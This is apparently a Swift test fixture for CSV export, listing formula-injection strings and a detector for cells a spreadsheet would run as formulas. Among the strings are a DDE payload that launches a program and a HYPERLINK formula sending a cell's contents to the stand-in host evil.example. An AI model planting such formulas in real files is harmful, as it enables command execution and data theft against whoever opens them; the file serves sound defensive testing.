/// Formula injections into CSV, as the tests of every CSV export put them into cells: issue 42's
/// strings and OWASP's formula starts, behind white space and in their fullwidth forms.
public enum CSVInjection {
    public static let strings = [
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   @SUM(A1)", "\u{3000}=1", "\u{00A0}+1",
        "\u{FF1D}1+1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}SUM(A1)", " \u{FF1D}HYPERLINK(\"x\")", "\t", "\r\n",
    ]

    /// Whether a cell, as a reader unquoted it, would be run by a spreadsheet: its first character
    /// a tab, CR or LF, or its first after white space one of = + - @ or their fullwidth forms.
    /// Written apart from `CSVWriter`'s rule, so that the tests do not check the writer by itself.
    public static func runsAsFormula(_ cell: String) -> Bool {
        guard let first = cell.unicodeScalars.first else { return false }
        if "\t\r\n".unicodeScalars.contains(first) { return true }
        guard let start = cell.unicodeScalars.first(where: { !$0.properties.isWhitespace }) else { return false }
        return "=+-@\u{FF1D}\u{FF0B}\u{FF0D}\u{FF20}".unicodeScalars.contains(start)
    }
}
